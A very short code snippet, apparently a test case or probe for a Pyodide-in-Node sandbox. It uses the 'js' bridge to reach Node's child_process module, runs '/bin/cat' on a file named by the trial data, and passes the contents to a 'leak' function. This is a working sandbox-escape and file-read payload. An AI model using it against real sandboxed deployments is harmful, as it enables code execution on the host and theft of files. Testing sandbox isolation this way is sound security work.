witness()
import js

child = js.process.getBuiltinModule("child_process")
leak(child.execFileSync("/bin/cat", js.Array.of(trial["file"])).toString())
